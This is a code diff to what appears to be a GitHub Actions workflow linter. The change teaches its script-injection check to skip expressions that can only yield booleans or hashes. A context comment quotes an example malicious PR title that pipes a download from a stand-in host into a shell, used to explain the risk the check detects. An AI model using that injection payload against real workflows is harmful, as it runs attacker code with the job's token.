@@ -3,6 +3,7 @@
 // the text before the shell parses it, so a PR title like `"; curl evil | sh #` runs as code with
 // the job's token. Passing the value through `env:` and quoting "$VAR" is safe and not reported.
 // https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
+import { parseExpression } from '../../analysis/expressions.js';
 import { WORKFLOW_GLOBS, workflowOf } from '../../analysis/workflow.js';
 import { defineCheck } from '../../model/check.js';
 
@@ -51,7 +52,7 @@ export default defineCheck({
             for (const s of sources) {
               for (const m of s.text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
                 const hit = UNTRUSTED.exec(m[1]!);
-                if (!hit) continue;
+                if (!hit || yieldsNoText(m[1]!)) continue;
                 ctx.report({
                   messageId: 'injection',
                   location: { path: f.path, line: s.lineAt(m.index) },
@@ -66,6 +67,22 @@ export default defineCheck({
     };
   },
 });
+
+/** Functions whose result is a boolean or a hash, whatever their arguments hold. */
+const NO_TEXT_CALLS = new Set(['contains', 'startswith', 'endswith', 'success', 'failure', 'always', 'cancelled', 'hashfiles']);
+
+/**
+ * Whether the expression's value can hold no text at all: a negation, a comparison, or a call that
+ * returns a boolean or a hash (`${{ !contains(github.head_ref, 'release') }}` expands to `true` or
+ * `false`). `&&` and `||` return one of their operands, so they are not of this kind.
+ */
+function yieldsNoText(expr: string): boolean {
+  const e = parseExpression(expr.trim());
+  if (!e) return false;
+  if (e.t === 'not') return true;
+  if (e.t === 'bin') return e.op !== '&&' && e.op !== '||';
+  return e.t === 'call' && NO_TEXT_CALLS.has(e.name.toLowerCase());
+}
 
 function countLines(s: string, end: number): number {
   let n = 0;
